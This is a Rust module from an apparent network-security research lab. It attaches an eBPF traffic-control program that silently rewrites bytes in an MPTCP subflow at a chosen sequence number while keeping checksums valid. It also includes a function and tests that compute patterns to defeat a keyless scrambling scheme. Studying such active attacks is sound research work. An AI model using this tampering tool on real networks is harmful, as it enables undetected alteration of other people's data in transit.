//! The lab's smart active attacker (`nena lab forge`, tests): a TC program
//! (`bpf/attack/forge.bpf.c`) that XORs a chosen pattern into the MPTCP data stream of one subflow
//! at a chosen data sequence number (DSN), read from each segment's DSS mapping, and keeps
//! the TCP checksum valid. An attacker on the untrusted link who knows a file and where it
//! lies in the session stream rewrites it this way: against a keystream the pattern is the
//! XOR of the real and the wanted plaintext, against the papers' scrambling each change is
//! spread over 65 bytes ([`kato_pattern`]).
//!
//! Attached to an interface of the current network namespace (ingress or egress); the
//! pattern is written later with [`arm`], once the attacker knows the DSN. Nothing is pinned:
//! the filter keeps the program and its map alive, [`remove`] (or deleting the namespace)
//! ends both.

use crate::skel::forge::{types, ForgeSkel, ForgeSkelBuilder};
use anyhow::{anyhow, bail, Context, Result};
use libbpf_rs::skel::{OpenSkel, SkelBuilder};
use libbpf_rs::{MapCore, MapFlags, MapHandle, OpenObject};
use serde::Serialize;
use std::mem::{size_of, MaybeUninit};
use std::os::fd::AsFd;
use zerocopy::{FromBytes, IntoBytes};

/// Longest pattern the program applies (`FORGE_MAX` in the C program).
pub const MAX_PATTERN: usize = 160;
/// The scrambling window of kato (bytes of plaintext each output byte depends on, besides
/// its own).
pub const KATO_WINDOW: usize = 64;

const FILTER: crate::tc::Filter = crate::tc::Filter {
    handle: 0x7a3f,
    priority: 0x7a3f,
};

/// `struct forge` of the C program (checked against the skeleton's BTF type at compile time).
#[repr(C)]
#[derive(
    Clone,
    Copy,
    Debug,
    zerocopy::FromBytes,
    zerocopy::IntoBytes,
    zerocopy::Immutable,
    zerocopy::KnownLayout,
)]
struct Forge {
    port: u16,
    armed: u8,
    have_flow: u8,
    len: u32,
    dsn: u64,
    owns_clsact: u32,
    isn: u32,
    sport: u16,
    dport: u16,
    pad0: u32,
    seen: u64,
    mapped: u64,
    altered: u64,
    segments: u64,
    done: [u8; MAX_PATTERN],
    xor: [u8; MAX_PATTERN],
}
crate::chains::abi::same_layout!(Forge = types::forge; port => port, armed => armed,
    have_flow => have_flow, len => len, dsn => dsn, owns_clsact => owns_clsact, isn => isn,
    sport => sport, dport => dport, pad0 => pad0, seen => seen, mapped => mapped,
    altered => altered, segments => segments, done => done, xor => xor);

impl Forge {
    fn new(port: u16, owns_clsact: bool) -> Forge {
        Forge {
            port,
            armed: 0,
            have_flow: 0,
            len: 0,
            dsn: 0,
            owns_clsact: owns_clsact as u32,
            isn: 0,
            sport: 0,
            dport: 0,
            pad0: 0,
            seen: 0,
            mapped: 0,
            altered: 0,
            segments: 0,
            done: [0; MAX_PATTERN],
            xor: [0; MAX_PATTERN],
        }
    }
}

/// What the program did (read from its map).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ForgeRecord {
    /// Source and destination port of the watched subflow, once its SYN passed.
    pub flow: Option<(u16, u16)>,
    /// Whether a pattern was written.
    pub armed: bool,
    /// Data segments of the flow seen, and those with a DSS mapping.
    pub seen: u64,
    pub mapped: u64,
    /// Bytes altered (retransmissions count again) and segments altered.
    pub altered: u64,
    pub segments: u64,
    /// Pattern bytes (non-zero ones) that were altered at least once, of how many.
    pub done: usize,
    pub wanted: usize,
}

impl ForgeRecord {
    /// Every non-zero byte of the pattern crossed this link and was altered.
    pub fn complete(&self) -> bool {
        self.armed && self.wanted > 0 && self.done == self.wanted
    }
}

fn record(v: &[u8]) -> Result<(ForgeRecord, bool)> {
    let f =
        Forge::read_from_bytes(v).map_err(|_| anyhow!("the forge map holds {} bytes", v.len()))?;
    let n = (f.len as usize).min(MAX_PATTERN);
    let wanted: Vec<usize> = (0..n).filter(|&j| f.xor[j] != 0).collect();
    Ok((
        ForgeRecord {
            flow: (f.have_flow == 1).then(|| (u16::from_be(f.sport), u16::from_be(f.dport))),
            armed: f.armed == 1,
            seen: f.seen,
            mapped: f.mapped,
            altered: f.altered,
            segments: f.segments,
            done: wanted.iter().filter(|&&j| f.done[j] != 0).count(),
            wanted: wanted.len(),
        },
        f.owns_clsact == 1,
    ))
}

fn load(storage: &mut MaybeUninit<OpenObject>) -> Result<ForgeSkel<'_>> {
    let mut b = ForgeSkelBuilder::default();
    b.obj_builder
        .name("nena_forge")
        .context("naming the BPF object")?;
    b.open(storage)
        .context("opening the forge object")?
        .load()
        .context("loading the forge program (verifier)")
}

/// Loads the program for the first subflow toward `port` whose SYN it sees and attaches it
/// to `dev` (current network namespace), replacing an earlier one there. It alters nothing
/// until [`arm`]ed.
pub fn attach(dev: &str, ingress: bool, port: u16) -> Result<()> {
    if port == 0 {
        bail!("the port must not be 0");
    }
    let idx = crate::chains::loader::ifindex(dev)?;
    let _lock = crate::tc::lock()?;
    let mut storage = MaybeUninit::uninit();
    let skel = load(&mut storage)?;
    let created = !crate::tc::has_clsact(idx).unwrap_or(true);
    let v = Forge::new(port, created);
    skel.maps
        .forge
        .update(&0u32.to_ne_bytes(), v.as_bytes(), MapFlags::ANY)
        .context("configuring the forge program")?;
    let mut h = FILTER.hook(skel.progs.tc_forge.as_fd(), idx, ingress);
    let _ = h.create();
    h.attach()
        .with_context(|| format!("attaching the forge program to {dev}"))?;
    Ok(())
}

fn attached_map(dev: &str, ingress: bool) -> Result<Option<MapHandle>> {
    let idx = crate::chains::loader::ifindex(dev)?;
    FILTER.attached_map(dev, idx, ingress, "tc_forge", "forge")
}

fn read(m: &MapHandle) -> Result<Forge> {
    let v = m
        .lookup(&0u32.to_ne_bytes(), MapFlags::ANY)?
        .ok_or_else(|| anyhow!("the forge map is empty"))?;
    Forge::read_from_bytes(&v).map_err(|_| anyhow!("the forge map holds {} bytes", v.len()))
}

/// Tells the program attached to `dev` to XOR `xor[j]` into the data byte at DSN `dsn + j`
/// (the low 32 bits of the DSN are compared, as a 4-byte mapping carries only those).
pub fn arm(dev: &str, ingress: bool, dsn: u64, xor: &[u8]) -> Result<()> {
    if xor.is_empty() || xor.len() > MAX_PATTERN {
        bail!(
            "the pattern has {} bytes (1..={MAX_PATTERN} allowed)",
            xor.len()
        );
    }
    let m = attached_map(dev, ingress)?.ok_or_else(|| anyhow!("no forge program on {dev}"))?;
    let mut f = read(&m)?;
    f.dsn = dsn;
    f.len = xor.len() as u32;
    f.xor = [0; MAX_PATTERN];
    f.xor[..xor.len()].copy_from_slice(xor);
    f.done = [0; MAX_PATTERN];
    f.armed = 1;
    m.update(&0u32.to_ne_bytes(), f.as_bytes(), MapFlags::ANY)
        .context("arming the forge program")?;
    Ok(())
}

/// What the program attached to `dev` did (None: none attached).
pub fn show(dev: &str, ingress: bool) -> Result<Option<ForgeRecord>> {
    let Some(m) = attached_map(dev, ingress)? else {
        return Ok(None);
    };
    Ok(Some(record(read(&m)?.as_bytes())?.0))
}

/// Detaches the program from `dev` (and the clsact qdisc if attaching made it and nothing
/// else uses it). Returns its last record, or None if nothing was attached.
pub fn remove(dev: &str, ingress: bool) -> Result<Option<ForgeRecord>> {
    let _lock = crate::tc::lock()?;
    let Some(m) = attached_map(dev, ingress)? else {
        return Ok(None);
    };
    let (rec, owns) = record(read(&m)?.as_bytes())?;
    let idx = crate::chains::loader::ifindex(dev)?;
    FILTER
        .detach(idx, ingress)
        .with_context(|| format!("detaching the forge program from {dev}"))?;
    if owns {
        crate::tc::remove_clsact_if_empty(idx)?;
    }
    Ok(Some(rec))
}

/// The ciphertext pattern that changes the plaintext by `delta` (delta[j] XORed into the
/// plaintext byte at `j`) under the papers' scrambling: an output byte is its plaintext byte
/// XOR the 64 plaintext bytes before it, so a change at `j` changes outputs `j..=j+64` by the
/// same amount; the pattern is the XOR of those spreads. No key or plaintext is needed, only
/// the difference. The result is `delta.len() + 64` bytes long.
pub fn kato_pattern(delta: &[u8]) -> Vec<u8> {
    let mut out = vec![0u8; delta.len() + KATO_WINDOW];
    for (j, &d) in delta.iter().enumerate() {
        for o in &mut out[j..=j + KATO_WINDOW] {
            *o ^= d;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The papers' scrambling, straightforwardly (a 64-byte window of plaintext, initially 56
    /// zeros and the key): `descramble` false scrambles, true descrambles.
    fn kato(key: [u8; 8], buf: &mut [u8], descramble: bool) {
        let mut w = [0u8; 64];
        w[56..].copy_from_slice(&key);
        for b in buf.iter_mut() {
            let x = w.iter().fold(0u8, |a, &v| a ^ v);
            let plain = if descramble { *b ^ x } else { *b };
            *b ^= x;
            w.rotate_left(1);
            w[63] = plain;
        }
    }

    /// The kato pattern, applied to a scrambled stream, changes exactly the plaintext bytes
    /// of the difference once descrambled.
    #[test]
    fn kato_pattern_changes_exactly_the_difference() {
        let key = *b"8bytekey";
        let plain: Vec<u8> = (0..400u32).map(|i| (i * 7 + 3) as u8).collect();
        let mut ct = plain.clone();
        kato(key, &mut ct, false);
        let mut delta = vec![0u8; 40];
        delta[0] = 0x55;
        delta[7] = 0x01;
        delta[39] = 0xf0;
        let at = 200;
        let pat = kato_pattern(&delta);
        for (j, p) in pat.iter().enumerate() {
            ct[at + j] ^= p;
        }
        kato(key, &mut ct, true);
        for (i, (&got, &was)) in ct.iter().zip(&plain).enumerate() {
            let want = if (at..at + delta.len()).contains(&i) {
                was ^ delta[i - at]
            } else {
                was
            };
            assert_eq!(got, want, "byte {i}");
        }
    }

    /// The program passes the verifier of the running kernel (root).
    #[test]
    #[cfg_attr(not(feature = "netns"), ignore = "needs root: --features netns")]
    fn the_program_loads() {
        let mut storage = MaybeUninit::uninit();
        load(&mut storage).unwrap();
    }

    #[test]
    fn record_counts_the_non_zero_pattern_bytes() {
        let mut f = Forge::new(7000, true);
        f.armed = 1;
        f.len = 4;
        f.xor[..4].copy_from_slice(&[1, 0, 3, 4]);
        f.done[0] = 1;
        f.done[2] = 1;
        let (r, owns) = record(f.as_bytes()).unwrap();
        assert!(owns);
        assert_eq!((r.done, r.wanted, r.complete()), (2, 3, false));
        f.done[3] = 1;
        assert!(record(f.as_bytes()).unwrap().0.complete());
    }
}
